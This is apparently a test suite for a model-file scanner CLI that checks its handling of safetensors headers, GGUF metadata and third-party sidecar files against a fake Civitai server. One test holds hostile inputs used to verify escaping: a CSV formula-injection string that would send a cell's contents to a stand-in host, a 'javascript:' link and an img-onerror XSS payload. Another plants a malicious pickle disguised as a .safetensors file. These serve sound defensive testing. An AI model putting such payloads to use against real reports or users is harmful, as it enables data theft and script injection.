/**
 * scan's local layer (issue #5): header pass, other tools' sidecars as hints, offline inventories,
 * --trust-sidecars and --write-sidecars, through the real CLI against a fake Civitai.
 */
import { afterAll, beforeAll, beforeEach, describe, expect, test } from "bun:test";
import { createHash } from "node:crypto";
import { existsSync, readdirSync, readFileSync, statSync, utimesSync, writeFileSync } from "node:fs";
import { join } from "node:path";
import MarkdownIt from "markdown-it";
import Papa from "papaparse";
import { mdText } from "../../src/report/md-escape.ts";
import { parseSidecar } from "../../src/local/sidecars.ts";
import { makeModel, makeVersion, startFakeCivitai, type FakeCivitai } from "../helpers/fake-civitai.ts";
import { runCli } from "../helpers/run-cli.ts";
import { buildSafetensors, kohyaMetadata, maliciousPickle, modelspecMetadata, sdxlLoraTensors } from "../helpers/safetensors.ts";
import { buildGguf, type GgufKv } from "../helpers/gguf.ts";
import { validateInventory } from "../helpers/schema.ts";
import { tmpDirs } from "../helpers/tmp.ts";

const tmp = tmpDirs();
let civitai: FakeCivitai;
const PAST = new Date(Date.now() - 3600_000);
const sha256 = (data: Uint8Array | string) => createHash("sha256").update(data).digest("hex");

beforeAll(async () => {
  civitai = await startFakeCivitai({ fixtures: false });
});
afterAll(async () => {
  await civitai.stop();
  tmp.cleanup();
});
beforeEach(() => {
  civitai.reset();
  civitai.clearData();
});

function inventoryOf(text: string) {
  const inv = JSON.parse(text);
  expect(validateInventory(inv)).toEqual([]);
  return inv;
}

interface Rec {
  path: string;
  status: string;
  hashes: Record<string, string>;
  hashSource?: string;
  knownFrom?: string;
  sidecar?: Record<string, unknown>;
  local?: Record<string, any>;
  civitai?: Record<string, any>;
  reason?: string;
}

function byName(inv: { records: Rec[] }): Record<string, Rec> {
  return Object.fromEntries(inv.records.map((r) => [r.path.slice(r.path.lastIndexOf("/") + 1), r]));
}

/** A real kohya SDXL LoRA (metadata differs per name so every file has its own hash). */
function writeLora(dir: string, name: string, meta: Record<string, string> = {}): { path: string; sha: string; size: number } {
  const built = buildSafetensors(sdxlLoraTensors(), { ...kohyaMetadata({ ss_output_name: name }), ...modelspecMetadata(), ...meta });
  const path = join(dir, name);
  writeFileSync(path, built.bytes);
  utimesSync(path, PAST, PAST);
  return { path, sha: sha256(built.bytes), size: built.bytes.length };
}

const args = (dir: string, cacheDir: string, ...extra: string[]) => [
  "scan",
  dir,
  "--api-url",
  civitai.url,
  "--cache-dir",
  cacheDir,
  ...extra,
];

function csvRows(text: string): Record<string, string>[] {
  const parsed = Papa.parse<Record<string, string>>(text, { header: true, skipEmptyLines: true });
  expect(parsed.errors).toEqual([]);
  return parsed.data;
}

describe("scan: local section", () => {
  test("a real kohya/ModelSpec LoRA: local section in JSON (schema-valid), CSV columns and Markdown lines", async () => {
    const dir = tmp.make();
    const lora = writeLora(dir, "style.safetensors");
    writeLora(dir, "own.safetensors", { "modelspec.trigger_phrase": "" });
    const version = makeVersion({ versionId: 401, modelId: 40, sha256: lora.sha });
    version.trainedWords = []; // Civitai gives none: the file's trigger phrase is shown instead
    civitai.addModel(makeModel({ modelId: 40, name: "Style", versions: [version] }));
    const cacheDir = tmp.make();

    const r = await runCli(args(dir, cacheDir));
    expect(r.code).toBe(0);
    const recs = byName(inventoryOf(r.stdout));
    const found = recs["style.safetensors"]!;
    expect(found.status).toBe("found");
    expect(found.knownFrom).toBe("civitai");
    const local = found.local!;
    expect(local.format).toBe("safetensors");
    expect(local.header.dataOffset).toBe(local.bytesRead);
    expect(local.header.metadata).toBeUndefined(); // compact by default
    expect(local.guess).toMatchObject({ guessed: true, kind: "lora", family: "SDXL" });
    expect(local.training).toMatchObject({ baseModelVersion: "sdxl_base_v1-0", networkDim: 32, classTokens: ["mystyle woman"] });
    expect(local.modelspec.triggerPhrase).toBe("mystyle");
    expect(local.tensors.count).toBe(sdxlLoraTensors().length);
    expect(recs["own.safetensors"]!.status).toBe("not_found");
    expect(recs["own.safetensors"]!.knownFrom).toBeUndefined();

    const meta = await runCli(args(dir, cacheDir, "--local-metadata"));
    const withMeta = byName(inventoryOf(meta.stdout))["style.safetensors"]!;
    expect(withMeta.local!.header.metadata.ss_output_name).toBe("style.safetensors");

    const csv = csvRows((await runCli(args(dir, cacheDir, "--format", "csv"))).stdout);
    const styleRow = csv.find((x) => x.file_name === "style.safetensors")!;
    expect(styleRow).toMatchObject({
      format: "safetensors",
      architecture_guess: "LoRA, SDXL (guess)",
      local_trigger_words: "mystyle",
      training_base_model: "sdxl_base_v1-0",
      known_from: "civitai",
    });
    // No trigger phrase: kohya's class tokens stand in.
    expect(csv.find((x) => x.file_name === "own.safetensors")!.local_trigger_words).toBe("mystyle woman");

    const md = (await runCli(args(dir, cacheDir, "--format", "md"))).stdout;
    // Found: Civitai gives no trigger words, so the file's stand in, labelled.
    expect(md).toMatch(/\| style\.safetensors \| \[Style · v401\]\([^)]*\) \| 55\.6 KiB \| mystyle \(from the file\) \|/);
    // Not found: what the file says, each fact labelled (the guess as a guess).
    expect(md).toMatch(
      /\| own\.safetensors \| 55\.6 KiB \| [0-9a-f]{64} \| LoRA, SDXL \(guess\); trigger words mystyle woman; trained on sdxl_base_v1-0 \|/,
    );
  });

  test("hostile kohya/ModelSpec metadata is escaped in Markdown and neutralised in CSV exactly like Civitai names", async () => {
    const dir = tmp.make();
    const hostile = '=HYPERLINK("http://x?"&A1) | [x](javascript:alert(1)) <img src=x onerror=alert(1)>\n# heading';
    writeLora(dir, "evil.safetensors", {
      ss_base_model_version: hostile,
      "modelspec.trigger_phrase": hostile,
      "modelspec.architecture": hostile,
    });
    const cacheDir = tmp.make();
    const md = await runCli(args(dir, cacheDir, "--format", "md"));
    expect(md.code).toBe(0);
    const html = new MarkdownIt({ html: true, linkify: true }).render(md.stdout);
    expect(html).not.toMatch(/<img|<h1>\s*heading|href="javascript/i);
    // No link but ours: civitai.com pages and the report's own section anchors.
    expect(html).not.toMatch(/<a\s(?![^>]*href="(?:https:\/\/civitai\.com\/|#[a-z0-9-]+"))/);
    // The same escaping as a Civitai name gets (md-escape.ts mdText), and the table row stays one row.
    expect(md.stdout).toContain(`trigger words ${mdText(hostile)}; trained on ${mdText(hostile)} |\n`);
    const row = csvRows((await runCli(args(dir, cacheDir, "--format", "csv"))).stdout)[0]!;
    expect(row.local_trigger_words).toBe(`'${hostile}`);
    expect(row.training_base_model).toBe(`'${hostile}`);
  });

  test("a pickle named .safetensors: format pickle and a mismatch warning in the record; never unpickled", async () => {
    const dir = tmp.make();
    const marker = join(tmp.make(), "pwned");
    const path = join(dir, "trojan.safetensors");
    writeFileSync(path, maliciousPickle(marker));
    utimesSync(path, PAST, PAST);
    const r = await runCli(args(dir, tmp.make()));
    const rec = byName(inventoryOf(r.stdout))["trojan.safetensors"]!;
    expect(rec.local!.format).toBe("pickle");
    expect(rec.local!.formatMismatch).toContain("pickle");
    expect(rec.local!.warnings).toContain(rec.local!.formatMismatch);
    expect(existsSync(marker)).toBe(false);
    const md = (await runCli(args(dir, tmp.make(), "--format", "md"))).stdout;
    // Listed among the header warnings, escaped like any text from a file.
    expect(md).toContain("| trojan.safetensors | content is a Python pickle but the name ends in .safetensors;");
  });

  test("T13: a GGUF with 100,000 metadata pairs keeps 1,000 keys, cut, and one warning for all its duplicate keys", async () => {
    // The parser accepts 100,000 pairs in its 8 MiB prefix: they were all kept (keys up to 64 KiB)
    // and each duplicate key was its own warning, so a 3 MB file made a 100,000-line, 8 MB record.
    const dir = tmp.make();
    const kv: GgufKv[] = [{ key: `long.${"x".repeat(60_000)}`, type: "uint8", value: 1 }];
    for (let i = 0; i < 50_000; i++) kv.push({ key: "dup", type: "uint8", value: 1 });
    for (let i = 0; i < 49_990; i++) kv.push({ key: `k${i}`, type: "uint8", value: 1 });
    kv.push({ key: "general.architecture", type: "string", value: "flux" }); // past the 1,000: still read
    const path = join(dir, "hostile.gguf");
    writeFileSync(path, buildGguf({ kv }));
    utimesSync(path, PAST, PAST);
    const r = await runCli(["scan", dir, "--offline", "--no-cache"]);
    expect(r.code).toBe(0);
    expect(r.stdout.length).toBeLessThan(100_000);
    const local = byName(inventoryOf(r.stdout))["hostile.gguf"]!.local!;
    expect(local.gguf.kvCount).toBe(100_000 - 8);
    const keys = Object.keys(local.gguf.metadata);
    expect(keys).toHaveLength(1001);
    expect(keys.find((k) => k.startsWith("long."))).toStartWith(`long.${"x".repeat(195)}…[truncated`);
    expect(keys.every((k) => k.length < 250)).toBe(true);
    expect(local.gguf.architecture).toBe("flux");
    expect(local.warnings).toEqual([
      'duplicate metadata keys (the last one counts): "dup" and 49998 more',
      "GGUF metadata has 99992 keys; the first 1000 are kept",
    ]);
  });
});

/** One model file per sidecar format, each sidecar built from the documented fields (docs/sidecars.md §1–§4). */
function sidecarLibrary(dir: string) {
  const a = writeLora(dir, "a.safetensors");
  writeFileSync(
    join(dir, "a.civitai.info"),
    JSON.stringify({
      id: 111,
      modelId: 11,
      name: "A v1",
      baseModel: "SDXL 1.0",
      trainedWords: ["a-word"],
      model: { name: "A Model", type: "LORA", nsfw: false },
      files: [
        {
          name: "a.safetensors",
          sizeKB: a.size / 1024,
          primary: true,
          hashes: { SHA256: a.sha.toUpperCase(), AutoV2: a.sha.slice(0, 10).toUpperCase() },
        },
      ],
    }),
  );
  const b = writeLora(dir, "b.safetensors");
  writeFileSync(
    join(dir, "b.metadata.json"),
    JSON.stringify({
      file_name: "b",
      model_name: "B Model",
      size: b.size,
      sha256: b.sha,
      base_model: "SDXL 1.0",
      from_civitai: true,
      civitai: { id: 222, modelId: 22, name: "B v2", model: { name: "B Model", type: "LORA" }, trainedWords: ["b-word"] },
    }),
  );
  const c = writeLora(dir, "c.safetensors");
  writeFileSync(
    join(dir, "c.cm-info.json"),
    JSON.stringify({
      ModelId: 33,
      VersionId: 333,
      ModelName: "C Model",
      VersionName: "C v3",
      ModelType: "LORA",
      BaseModel: "Pony",
      RemoteFileName: "c.safetensors",
      Hashes: { SHA256: c.sha.toUpperCase() },
    }),
  );
  const d = writeLora(dir, "d.safetensors");
  writeFileSync(
    join(dir, "d.json"),
    JSON.stringify({
      description: "",
      "sd version": "SDXL",
      "activation text": "d-word",
      modelId: 44,
      modelVersionId: 444,
      sha256: d.sha.toUpperCase(),
    }),
  );
  const e = writeLora(dir, "e.safetensors");
  writeFileSync(
    join(dir, "e.json"),
    JSON.stringify({
      id: 555,
      modelId: 55,
      name: "E v5",
      model: { name: "E Model", type: "LORA" },
      files: [{ name: "e.safetensors", hashes: { SHA256: e.sha } }],
    }),
  );
  writeLora(dir, "f.safetensors");
  writeFileSync(join(dir, "f.civitai.info"), "{}");
  // A stale sidecar (another file's hash), same size recorded, and one whose size also differs.
  const g = writeLora(dir, "g.safetensors");
  writeFileSync(
    join(dir, "g.civitai.info"),
    JSON.stringify({
      id: 777,
      modelId: 77,
      name: "G",
      model: { name: "G Model" },
      files: [{ name: "g.safetensors", sizeKB: (g.size + 4096) / 1024, hashes: { SHA256: "ab".repeat(32) } }],
    }),
  );
  return { a, b, c, d, e, g };
}

describe("scan: sidecars as hints", () => {
  test("each sidecar format names a file Civitai does not know (status stays not_found); {} is a not-found marker; a stale one is ignored", async () => {
    const dir = tmp.make();
    sidecarLibrary(dir);
    const r = await runCli(args(dir, tmp.make()));
    expect(r.code).toBe(0);
    const recs = byName(inventoryOf(r.stdout));
    for (const name of ["a", "b", "c", "d", "e", "f", "g"]) expect(recs[`${name}.safetensors`]!.status).toBe("not_found");
    expect(recs["a.safetensors"]!.knownFrom).toBe("sidecar:civitai-helper");
    expect(recs["a.safetensors"]!.sidecar).toMatchObject({
      source: "civitai-helper",
      file: "a.civitai.info",
      checkedBy: "sha256",
      modelId: 11,
      versionId: 111,
      modelName: "A Model",
      versionName: "A v1",
      baseModel: "SDXL 1.0",
      trainedWords: ["a-word"],
      pageUrl: "https://civitai.com/models/11?modelVersionId=111",
    });
    expect(recs["b.safetensors"]!.sidecar).toMatchObject({
      source: "lora-manager",
      modelId: 22,
      versionId: 222,
      modelName: "B Model",
      versionName: "B v2",
    });
    expect(recs["c.safetensors"]!.sidecar).toMatchObject({
      source: "stability-matrix",
      modelId: 33,
      versionId: 333,
      modelName: "C Model",
      baseModel: "Pony",
    });
    expect(recs["d.safetensors"]!.sidecar).toMatchObject({ source: "a1111-user-metadata", modelId: 44, versionId: 444 });
    expect(recs["e.safetensors"]!.sidecar).toMatchObject({ source: "version-json", modelId: 55, versionId: 555, modelName: "E Model" });
    const f = recs["f.safetensors"]!;
    expect(f.knownFrom).toBeUndefined();
    expect(f.sidecar).toBeUndefined();
    expect(f.local!.sidecars).toEqual([expect.objectContaining({ source: "civitai-helper", file: "f.civitai.info", status: "not-found" })]);
    const g = recs["g.safetensors"]!;
    expect(g.knownFrom).toBeUndefined();
    expect(g.local!.warnings).toContain("g.civitai.info: its SHA-256 differs from this file's; ignored");
    expect(r.stderr).toContain("5 known only from sidecars");

    const csv = csvRows((await runCli(args(dir, tmp.make(), "--format", "csv"))).stdout);
    expect(csv.find((x) => x.file_name === "b.safetensors")).toMatchObject({
      status: "not_found",
      model_name: "",
      known_from: "sidecar:lora-manager",
      sidecar_model_id: "22",
      sidecar_model_name: "B Model",
      sidecar_version_id: "222",
    });
    const md = (await runCli(args(dir, tmp.make(), "--format", "md"))).stdout;
    // Among the not-found files, the sidecar's identity labelled as the sidecar's, linked from its ids.
    expect(md).toMatch(
      /\| a\.safetensors \| 55\.6 KiB \| [0-9a-f]{64} \| \[A Model · A v1\]\(https:\/\/civitai\.com\/models\/11\?modelVersionId=111\) \(LORA, SDXL 1\.0\), from the Civitai Helper sidecar; /,
    );
    expect(md).toContain(
      "[B Model · B v2](https://civitai.com/models/22?modelVersionId=222) (LORA, SDXL 1.0), from the LoRA Manager sidecar; ",
    );
    expect(md).toMatch(/\| f\.safetensors \|[^\n]*; Civitai Helper sidecar says Civitai did not know it \|/);
    // The stale sidecar names nothing.
    expect(md).toMatch(
      /\| g\.safetensors \| 55\.6 KiB \| [0-9a-f]{64} \| LoRA, SDXL \(guess\); trigger words mystyle; trained on sdxl_base_v1-0 \|/,
    );
  });

  test("--offline: a complete inventory from files, sidecars and caches with zero requests", async () => {
    const dir = tmp.make();
    const lib = sidecarLibrary(dir);
    const known = writeLora(dir, "known.safetensors");
    civitai.addModel(
      makeModel({ modelId: 90, name: "Known", versions: [makeVersion({ versionId: 901, modelId: 90, sha256: known.sha })] }),
    );
    const cacheDir = tmp.make();
    // Warm only the metadata cache for one file, online.
    const warm = await runCli(["scan", known.path, "--api-url", civitai.url, "--cache-dir", cacheDir]);
    expect(warm.code).toBe(0);
    civitai.reset();

    const r = await runCli(args(dir, cacheDir, "--offline"));
    expect(r.code).toBe(0);
    expect(civitai.requests).toHaveLength(0);
    const inv = inventoryOf(r.stdout);
    expect(inv.summary.requests).toBe(0);
    const recs = byName(inv);
    expect(recs["known.safetensors"]).toMatchObject({ status: "found", knownFrom: "civitai" });
    expect(recs["known.safetensors"]!.civitai!.modelName).toBe("Known");
    expect(recs["a.safetensors"]).toMatchObject({
      status: "skipped",
      knownFrom: "sidecar:civitai-helper",
      sidecar: { modelName: "A Model" },
    });
    expect(recs["a.safetensors"]!.reason).toContain("offline");
    expect(recs["e.safetensors"]!.knownFrom).toBe("sidecar:version-json");
    // Every file has its hashes and its local section.
    for (const rec of inv.records as Rec[]) {
      expect(rec.hashes.sha256).toMatch(/^[0-9a-f]{64}$/);
      expect(rec.local!.format).toBe("safetensors");
    }
    expect(recs["g.safetensors"]!.hashes.sha256).toBe(lib.g.sha);
  });

  test("--trust-sidecars: files whose size matches a sidecar's claim are not hashed (hashSource); a mismatched size is hashed", async () => {
    const dir = tmp.make();
    const lib = sidecarLibrary(dir);
    civitai.addModel(
      makeModel({ modelId: 11, name: "A on Civitai", versions: [makeVersion({ versionId: 111, modelId: 11, sha256: lib.a.sha })] }),
    );
    const r = await runCli(args(dir, tmp.make(), "--trust-sidecars"));
    expect(r.code).toBe(0);
    const recs = byName(inventoryOf(r.stdout));
    // a (CH sizeKB) and b (LM exact size) are trusted; c, d, e record no size; f has no claim; g's size differs.
    expect(recs["a.safetensors"]).toMatchObject({ hashSource: "sidecar:civitai-helper", status: "found", knownFrom: "civitai" });
    expect(recs["a.safetensors"]!.hashes).toEqual({ sha256: lib.a.sha, autov2: lib.a.sha.slice(0, 10) });
    expect(recs["b.safetensors"]).toMatchObject({
      hashSource: "sidecar:lora-manager",
      status: "not_found",
      knownFrom: "sidecar:lora-manager",
      sidecar: { checkedBy: "size" },
    });
    for (const name of ["c", "d", "e", "f", "g"]) {
      expect(recs[`${name}.safetensors`]!.hashSource).toBeUndefined();
      expect(recs[`${name}.safetensors`]!.hashes.autov3).toMatch(/^[0-9a-f]{12}$/);
    }
    expect(recs["g.safetensors"]!.hashes.sha256).toBe(lib.g.sha);
    expect(recs["g.safetensors"]!.knownFrom).toBeUndefined();
    expect(r.stderr).toMatch(/; 5 hashed \(\d[^)]* read\), /);
    expect(r.stderr).toContain("2 SHA-256 taken from sidecars");

    // With --write-sidecars too: no .civitai.info is written from a claim taken on trust.
    const info = join(dir, "a.civitai.info");
    const before = readFileSync(info, "utf8");
    const w = await runCli(args(dir, tmp.make(), "--trust-sidecars", "--write-sidecars"));
    expect(w.code).toBe(0);
    expect(readFileSync(info, "utf8")).toBe(before);
    expect(w.stderr).toContain("1 .civitai.info not written: the file's SHA-256 was taken from a sidecar or the library index");
    expect(w.stderr).toMatch(/\.civitai\.info: 0 written, 0 unchanged, 1 left alone/);
  });
});

describe("scan --write-sidecars", () => {
  test("writes a .civitai.info that parseSidecar reads back, atomically; refreshes its own; never replaces another model's; nothing without the flag", async () => {
    const dir = tmp.make();
    const one = writeLora(dir, "one.safetensors");
    const two = writeLora(dir, "two.safetensors");
    writeLora(dir, "three.safetensors");
    civitai.addModel(
      makeModel({
        modelId: 61,
        name: "One",
        tags: ["x"],
        creator: { username: "alice" },
        versions: [makeVersion({ versionId: 611, modelId: 61, sha256: one.sha })],
      }),
    );
    civitai.addModel(makeModel({ modelId: 62, name: "Two", versions: [makeVersion({ versionId: 621, modelId: 62, sha256: two.sha })] }));
    const othersInfo = JSON.stringify({ id: 999, modelId: 99, name: "someone else's", model: { name: "Other" } });
    writeFileSync(join(dir, "two.civitai.info"), othersInfo);
    const cacheDir = tmp.make();

    const plain = await runCli(args(dir, cacheDir));
    expect(plain.code).toBe(0);
    expect(existsSync(join(dir, "one.civitai.info"))).toBe(false);

    const r = await runCli(args(dir, cacheDir, "--write-sidecars"));
    expect(r.code).toBe(0);
    const text = readFileSync(join(dir, "one.civitai.info"), "utf8");
    const info = parseSidecar("civitai-info", "one.civitai.info", text);
    expect(info).toMatchObject({ status: "ok", modelId: 61, versionId: 611, modelName: "One", creator: "alice", tags: ["x"] });
    expect(info.files.some((f) => f.sha256 === one.sha)).toBe(true);
    // The by-hash object as Civitai Helper stores it (4-space JSON).
    expect(text.startsWith('{\n    "id": 611,')).toBe(true);
    expect(readFileSync(join(dir, "two.civitai.info"), "utf8")).toBe(othersInfo);
    expect(r.stderr).toContain("two.civitai.info: not written: holds another model (model 99, version 999)");
    expect(existsSync(join(dir, "three.civitai.info"))).toBe(false); // not found: nothing written
    expect(readdirSync(dir).filter((n) => n.startsWith(".civitai-meta-tmp-"))).toEqual([]);
    expect(r.stderr).toContain(".civitai.info: 1 written, 0 unchanged, 1 left alone");

    // Refresh: a file with the same ids (edited by hand here) is replaced; the next scan leaves it unchanged and reads it back.
    const before = statSync(join(dir, "one.civitai.info")).ino;
    writeFileSync(join(dir, "one.civitai.info"), text.replace('"name"', '"name" ').replace(/\n$/, "\n\n"));
    const again = await runCli(args(dir, cacheDir, "--write-sidecars"));
    expect(again.stderr).toContain(".civitai.info: 1 written, 0 unchanged, 1 left alone");
    expect(readFileSync(join(dir, "one.civitai.info"), "utf8")).toBe(text);
    expect(statSync(join(dir, "one.civitai.info")).ino).not.toBe(before); // replaced by rename, not rewritten in place
    const third = await runCli(args(dir, cacheDir, "--write-sidecars"));
    expect(third.stderr).toContain(".civitai.info: 0 written, 1 unchanged, 1 left alone");
    const rec = byName(inventoryOf(third.stdout))["one.safetensors"]!;
    expect(rec.local!.sidecars[0]).toMatchObject({ source: "civitai-helper", status: "ok", versionId: 611 });
  });

  test("a {} not-found marker from Civitai Helper is replaced once Civitai knows the file", async () => {
    const dir = tmp.make();
    const m = writeLora(dir, "m.safetensors");
    writeFileSync(join(dir, "m.civitai.info"), "{}");
    civitai.addModel(makeModel({ modelId: 71, name: "M", versions: [makeVersion({ versionId: 711, modelId: 71, sha256: m.sha })] }));
    const r = await runCli(args(dir, tmp.make(), "--write-sidecars"));
    expect(r.code).toBe(0);
    expect(parseSidecar("civitai-info", "m.civitai.info", readFileSync(join(dir, "m.civitai.info"), "utf8"))).toMatchObject({
      status: "ok",
      versionId: 711,
    });
  });
});
